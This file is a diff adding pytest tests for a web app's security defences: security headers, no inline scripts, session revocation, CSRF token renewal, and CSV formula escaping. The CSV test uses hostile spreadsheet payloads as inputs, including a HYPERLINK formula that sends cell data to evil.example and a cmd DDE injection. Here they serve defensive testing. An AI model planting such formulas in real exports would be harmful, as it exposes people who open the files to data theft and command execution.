@@ -1,0 +1,113 @@
+"""The web edge: security headers on every answer, spreadsheet-safe CSV cells, sessions that end at
+sign-out, a CSRF token renewed at sign-in, and 405 answers that say what is allowed."""
+import csv
+import io
+
+import pytest
+
+from engine import identity
+from tests.conftest import add_user
+from tests.web.conftest import signed_in
+from tests.web.test_login_inbox import csrf_token, login
+from tests.web.test_register import record
+
+PASSWORD = "correct horse battery"
+
+
+@pytest.mark.parametrize("path", ["/login", "/static/app.css", "/api/v1/openapi.json", "/api/v1/instances",
+                                  "/no-such-page", "/inbox"])
+def test_every_answer_carries_the_security_headers(app, path):
+    headers = app.test_client().get(path).headers
+    policy = headers["Content-Security-Policy"]
+    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy and "default-src 'self'" in policy
+    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
+    assert headers["X-Frame-Options"] == "DENY"
+    assert headers["X-Content-Type-Options"] == "nosniff"
+    assert headers["Referrer-Policy"] == "same-origin"
+
+
+def test_pages_carry_no_inline_script(app, db, clock, at_gate4):
+    hub = signed_in(app, "hana.hub")
+    for path in ("/inbox", f"/projects/{at_gate4}", "/dashboard", "/register", "/processes"):
+        page = hub.get(path).get_data(as_text=True)
+        for script in page.split("<script")[1:]:
+            opening = script.split(">")[0]
+            assert "src=" in opening or 'type="application/json"' in opening, (path, opening)
+        assert " onclick=" not in page and " onload=" not in page and "javascript:" not in page
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(1+1)"])
+def test_a_formula_typed_into_the_register_comes_out_of_the_csv_as_text(app, at_gate4, title):
+    hub = signed_in(app, "hana.hub")
+    assert record(hub, title=title, contact="=1+1").status_code == 302
+    rows = list(csv.reader(io.StringIO(hub.get("/register.csv?source=hand").data.decode("utf-8"))))
+    header, row = rows[0], rows[1]
+    assert row[header.index("Title")] == "'" + title
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
+
+
+def test_405_says_which_methods_are_allowed(app):
+    page = app.test_client().get("/logout")
+    assert page.status_code == 405 and set(page.headers["Allow"].split(", ")) == {"OPTIONS", "POST"}
+    api = app.test_client().delete("/api/v1/instances")
+    assert api.status_code == 405 and set(api.headers["Allow"].split(", ")) >= {"GET", "POST"}
+    assert api.json["error"]["code"] == "method_not_allowed"
+
+
+def _sign_out(client):
+    token = csrf_token(client.get("/inbox").data)
+    assert client.post("/logout", data={"csrf_token": token}).status_code == 302
+
+
+def test_a_session_cookie_copied_before_sign_out_no_longer_works_after_it(app, db, clock):
+    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
+    client = app.test_client()
+    assert login(client, "sam", PASSWORD).status_code == 302
+    stolen = client.get_cookie("session").value
+    thief = app.test_client()
+    thief.set_cookie("session", stolen)
+    assert thief.get("/inbox").status_code == 200  # a copy works while the session holds
+    _sign_out(client)
+    replay = thief.get("/inbox")
+    assert replay.status_code == 302 and "/login" in replay.location
+
+
+def test_disabling_a_user_ends_their_sessions_for_good(app, db, clock):
+    add_user(db, clock, "ada", "admin", password=PASSWORD)
+    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
+    sam = app.test_client()
+    assert login(sam, "sam", PASSWORD).status_code == 302
+    with db.reading() as s:
+        ada = identity.require_user(s, "ada")
+    db.writing(lambda s: identity.set_active(s, "sam", active=False, actor=ada, clock=clock))
+    assert sam.get("/inbox").status_code == 302
+    db.writing(lambda s: identity.set_active(s, "sam", active=True, actor=ada, clock=clock))
+    assert sam.get("/inbox").status_code == 302  # enabled again, they sign in afresh
+
+
+def test_a_csrf_token_from_before_sign_in_is_refused_after_it(app, db, clock):
+    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
+    client = app.test_client()
+    before = csrf_token(client.get("/login").data)  # what a planted or shared pre-sign-in cookie holds
+    assert client.post("/login", data={"username": "sam", "password": PASSWORD, "csrf_token": before}
+                       ).status_code == 302
+    assert client.post("/logout", data={"csrf_token": before}).status_code == 400
+    assert client.get("/inbox").status_code == 200  # still signed in
+    _sign_out(client)
+
+
+def test_sessions_are_stored_server_side_and_revoked_at_sign_out(app, db, clock):
+    from sqlalchemy import select
+
+    from engine.models import SignInSession
+    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
+    client = app.test_client()
+    login(client, "sam", PASSWORD)
+    with db.reading() as s:
+        rows = list(s.scalars(select(SignInSession)))
+    assert len(rows) == 1 and rows[0].revoked_at is None
+    assert rows[0].token_hash not in client.get_cookie("session").value
+    _sign_out(client)
+    with db.reading() as s:
+        assert s.scalars(select(SignInSession)).one().revoked_at is not None
